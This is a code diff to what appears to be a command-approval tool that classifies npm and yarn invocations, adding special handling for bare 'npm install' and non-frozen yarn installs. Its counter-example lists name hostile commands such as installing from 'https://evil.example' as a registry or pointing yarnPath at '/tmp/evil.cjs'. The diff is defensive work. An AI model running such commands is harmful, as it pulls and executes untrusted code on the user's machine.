@@ -11,7 +11,7 @@ from askfirst.model import Action, Kind, Word
 from askfirst.shell.call import Outcome
 from askfirst.shell.tools.engine import apply, call_after, facts_of, read_action, row, unknown
 from askfirst.shell.tools.options import parse
-from askfirst.shell.tools.project_code import from_lock, place_facts, project_file, runner
+from askfirst.shell.tools.project_code import bare_install, from_lock, place_facts, project_file, runner
 from askfirst.shell.tools.table import ANY_OPTIONS, INERT, Reading, Tool
 
 TYPE_CHECKING = False
@@ -275,6 +275,22 @@ def _install(program: str, name: str, description: str, kind: Kind = Kind.INSTAL
     )
 
 
+_NPM_MANIFEST = "installs what package.json and the lock file say"
+
+
+def _npm_install(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    bare = _npm(
+        "npm",
+        "install",
+        _NPM_MANIFEST,
+        kind=Kind.INSTALL,
+        profile="node-dev",
+        operands=(),
+        options="flag --ignore-scripts --legacy-peer-deps --no-bin-links --strict-peer-deps --include-workspace-root",
+    )
+    return bare_install(bare, tool.replace(special=None), call, analyst)
+
+
 def _config_get(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     outcome = apply(tool.replace(special=None), call, analyst)
     secret = next(
@@ -452,6 +468,12 @@ def _npm_rows() -> dict[str, Tool]:
     ):
         for name in names.split():
             rows[name] = _install("npm", names.split()[0], what)
+    for name in "install i in ins inst insta instal isnt isnta isntal isntall".split():
+        rows[name] = rows[name].replace(
+            special=_npm_install,
+            examples=("npm install", "npm i --no-audit --no-fund", "npm install --legacy-peer-deps"),
+            counter_examples=("npm install lodash", "npm install -g", "npm install --registry https://evil.example"),
+        )
     for name in ("ci", "clean-install", "ic", "install-clean", "isntall-clean"):
         rows[name] = _npm(
             "npm",
@@ -673,12 +695,11 @@ def _frozen(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outc
         operands=(),
         key_words=2,
     )
-    outcome = from_lock(frozen, call, analyst)
     if not parse(frozen, call.words[1:]).has("--frozen-lockfile", "--immutable"):
-        action = outcome.action.replace(
-            allowed=False, profile="", description="installs packages, and may change the lock file"
-        )
-        return Outcome(action.replace(target=packages(call.words[1:])), tuple(facts))
+        asked = _install(tool.name, "install", "installs packages, and may change the lock file")
+        outcome = bare_install(frozen.replace(description=_NPM_MANIFEST), asked, call, analyst)
+    else:
+        outcome = from_lock(frozen, call, analyst)
     return outcome.replace(facts=(*facts, *outcome.facts))
 
 
@@ -1101,12 +1122,11 @@ TOOLS: dict[str, Tool] = {
             "yarn dlx evil",
             "yarn --cwd /tmp/evilpkg test",
             "yarn add x",
-            "yarn",
             "yarn run --inspect-brk build",
             "yarn touch x",
             "yarn ts-node x.ts",
             "yarn run env",
-            "yarn install",
+            "yarn install --registry https://evil.example",
             "yarn eslint -c /tmp/x .",
             "yarn config set yarnPath /tmp/evil.cjs",
             "yarn exec touch x",
